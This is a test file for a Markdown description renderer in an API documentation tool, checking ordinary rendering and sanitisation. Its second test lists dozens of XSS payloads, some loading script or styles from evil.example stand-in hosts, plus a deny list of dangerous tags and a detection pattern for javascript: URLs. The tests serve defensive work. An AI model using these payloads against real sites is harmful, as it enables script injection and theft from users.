import { assert, assertEquals } from "@std/assert";
import { descriptionRenderer, renderDescription } from "../../src/compile/description.ts";

const origin = { file: "api/openapi.yaml", base: "/docs" };
const render = (markdown: string) => renderDescription(markdown, origin);

Deno.test("renderDescription() renders Markdown", async (t) => {
  const cases: [string, string, string][] = [
    ["nothing", "  ", ""],
    [
      "a sentence",
      "The name of the pet, 3-40 characters.",
      "<p>The name of the pet, 3-40 characters.</p>",
    ],
    ["special characters", "a < b & c", "<p>a &lt; b &amp; c</p>"],
    [
      "emphasis and code",
      "**Bold** and `code<T>`",
      "<p><strong>Bold</strong> and <code>code&lt;T&gt;</code></p>",
    ],
    [
      "headings below those of the page",
      "# Title\n\nText",
      '<p class="description-heading">Title</p>\n<p>Text</p>',
    ],
    ["links of the site", "[a](/guides/x)", '<p><a href="/docs/guides/x">a</a></p>'],
    ["relative links", "[a](./x)", '<p><a href="/docs/api/x">a</a></p>'],
    [
      "other sites",
      "[a](https://e.com/?a=1&b=2)",
      '<p><a href="https://e.com/?a=1&amp;b=2" target="_blank" rel="noreferrer">a</a></p>',
    ],
    ["a little HTML", "a<br>b <sub>2</sub>", "<p>a<br>b <sub>2</sub></p>"],
    ["code", "```json\n{}\n```", '<pre tabindex="0"><code class="language-json">{}</code></pre>'],
    ["unknown tags keep their text", "x <blink>y</blink>", "<p>x y</p>"],
    [
      "plain text that looks like a list",
      "1. one\n2. two",
      "<ol>\n<li>one</li>\n<li>two</li>\n</ol>",
    ],
  ];
  for (const [name, markdown, html] of cases) {
    await t.step(name, () => assertEquals(render(markdown), html));
  }
});

Deno.test("renderDescription() lets no program through", async (t) => {
  const attacks = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src='data:text/html,<script>alert(1)</script>'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "[x](javascript:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=a><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    '<p style="background:url(javascript:alert(1))" onclick=alert(1)>x</p>',
    "<td onmouseover=alert(1)>x</td>",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0><base href=//evil.example>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    '```"><img/src=x/onerror=alert(1)>\ncode\n```',
    "```json<script>\n</code></pre><script>alert(1)</script>\n```",
    "<a href='\" onclick=\"alert(1)'>x</a>",
    '[x](https://e.com/"onmouseover="alert(1))',
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<isindex action=javascript:alert(1)>",
    "<p title=`onmouseover=alert(1)`>x</p>",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
  ];
  for (const attack of attacks) {
    await t.step(attack.slice(0, 60), () => {
      const html = render(attack);
      // What is a tag is checked; escaped text may say anything.
      for (
        const [tag, name = "", attributes = ""] of html.matchAll(
          /<\/?([a-zA-Z][^\s/>]*)((?:[^>"]|"[^"]*")*)>/g,
        )
      ) {
        assert(
          !/^(script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base|template|noscript|body|video|xmp|plaintext)$/i
            .test(name),
          tag,
        );
        for (
          const [, attribute = "", value = ""] of attributes.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)
        ) {
          assert(
            [
              "href",
              "src",
              "alt",
              "title",
              "class",
              "target",
              "rel",
              "tabindex",
              "loading",
              "open",
              "start",
              "colspan",
              "rowspan",
            ].includes(attribute),
            tag,
          );
          if (attribute !== "href" && attribute !== "src") continue;
          assert(
            // deno-lint-ignore no-control-regex -- browsers skip these characters
            !/^[\u0000-\u0020]*(?:j\s*a\s*v\s*a|vbscript|data)/i.test(
              value.replaceAll(/&#?\w+;/g, ""),
            ),
            tag,
          );
        }
      }
      const rest = html.replace(/<\/?[a-zA-Z](?:[^>"]|"[^"]*")*>/g, "");
      assert(!rest.includes("<"), `unescaped: ${rest}`);
    });
  }
});

Deno.test("descriptionRenderer() renders equal texts once", () => {
  let calls = 0;
  const renderer = descriptionRenderer({
    ...origin,
    highlight: (code) => (calls++, [[{ text: code, class: "t-k" }]]),
  });
  const html = renderer("```js\nlet a;\n```");
  assertEquals(
    html,
    '<pre tabindex="0"><code class="language-js"><span class="t-k">let a;</span></code></pre>',
  );
  assertEquals(renderer("```js\nlet a;\n```"), html);
  assertEquals(calls, 1);
});
